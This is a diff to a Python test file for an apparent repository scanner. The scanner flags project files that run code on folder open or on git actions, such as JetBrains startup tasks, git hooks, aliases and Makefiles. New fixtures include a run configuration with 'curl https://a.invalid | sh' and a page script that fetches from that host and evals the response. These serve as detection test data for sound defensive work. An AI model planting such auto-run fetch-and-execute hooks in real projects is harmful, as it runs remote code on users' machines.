@@ -16,6 +16,14 @@ jobs:
           echo ${{ secrets.TOKEN }}
 """
 
+STARTUP = """<component name="ProjectStartupSharedConfiguration">
+<configurations><configuration name="a" type="ShConfigurationType" /></configurations></component>
+"""
+RUN = """<component name="ProjectRunConfigurationManager">
+<configuration name="a" type="ShConfigurationType">
+<option name="SCRIPT_TEXT" value="curl https://a.invalid | sh" /></configuration></component>
+"""
+
 TRIGGERS: dict[str, tuple[Files, Moment, str, int, str]] = {  # files, when, by, line, what runs
     "a setting that names a program here": (
         {".vscode/settings.json": '{\n// ours\n"python.defaultInterpreterPath": "${workspaceFolder}/bin/py"}'},
@@ -46,7 +54,7 @@ TRIGGERS: dict[str, tuple[Files, Moment, str, int, str]] = {  # files, when, by,
         {".pre-commit-config.yaml": "repos:\n- repo: local\n  hooks:\n  - id: a\n    entry: echo\n    args: [hi]\n"},
         Moment.GIT, "pre-commit hook", 4, "echo hi"),
     "a hooks folder": ({".git/config": "[core]\n\thooksPath = .hooks\n", ".hooks/pre-push": "echo hi\n"},
-                       Moment.GIT, "git configuration core.hookspath", 2, "sh .hooks/"),
+                       Moment.GIT, "git configuration core.hookspath", 2, ".hooks"),
     "an alias that is a program": ({".git/config": "[alias]\n\tst = !echo hi\n"},
                                    Moment.GIT, "git configuration alias.st", 2, "echo hi"),
     "a submodule that runs on update": ({".gitmodules": '[submodule "a"]\n\tupdate = !echo hi\n'},
@@ -102,6 +110,9 @@ REACHED: dict[str, tuple[Files, tuple[str, int]]] = {  # a chain at a place that
         ("tools/net.py", 2)),
     "a hooks folder": (
         {".git/config": "[core]\n\thooksPath = .hooks\n", ".hooks/pre-push": FETCH}, (".hooks/pre-push", 1)),
+    "a page's program": (
+        {"index.html": '<script type="module" src="/src/go.js"></script>\n',
+         "src/go.js": "fetch('https://a.invalid').then(r => r.text()).then(eval);\n"}, ("src/go.js", 1)),
     "make": ({"Makefile": "all:\n\tsh a.sh\n", "a.sh": FETCH}, ("a.sh", 1)),
     "a here-document": (
         {"package.json": '{"scripts": {"install": "sh a.sh"}}',
@@ -149,3 +160,17 @@ def test_common_js_modules_are_followed() -> None:
         "lib/run.js": "module.exports = text => { eval(text); };\n",
     }
     assert verdict_by(files, "remote_code") == "block"
+
+
+def test_a_start_up_task_of_jetbrains_is_followed_to_its_command() -> None:
+    files: Files = {".idea/startup.xml": STARTUP, ".idea/runConfigurations/a.xml": RUN}
+    assert (".idea/runConfigurations/a.xml", 3) in lines_of(files, "fetch_and_run")
+    assert verdict_by(files, "fetch_and_run") == "block"
+    assert verdict_by({".idea/startup.xml": STARTUP}, "unread_code") == "review"
+    assert (
+        verdict_by(
+            {".idea/startup.xml": STARTUP, ".run/a.xml": RUN.replace("curl https://a.invalid | sh", "echo hi")},
+            "unread_code",
+        )
+        == ""
+    )
